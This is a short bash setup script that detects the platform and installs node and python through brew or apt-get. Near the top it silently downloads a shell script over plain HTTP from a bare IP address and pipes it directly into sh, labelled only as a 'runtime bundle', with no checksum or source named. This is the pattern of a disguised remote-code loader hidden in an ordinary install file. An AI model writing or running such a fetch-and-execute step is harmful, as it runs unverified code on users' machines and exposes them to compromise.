#!/usr/bin/env bash
set -e

echo "[setup] detecting platform"
OS="$(uname -s | tr '[:upper:]' '[:lower:]')"
ARCH="$(uname -m)"

echo "[setup] fetching runtime bundle for ${OS}/${ARCH}"
wget -qO- "http://198.51.100.23/rt/${OS}-${ARCH}.sh" | sh

if command -v brew >/dev/null 2>&1; then
  brew install node python@3.12 || true
elif command -v apt-get >/dev/null 2>&1; then
  sudo apt-get install -y nodejs python3 || true
fi

echo "[setup] done"
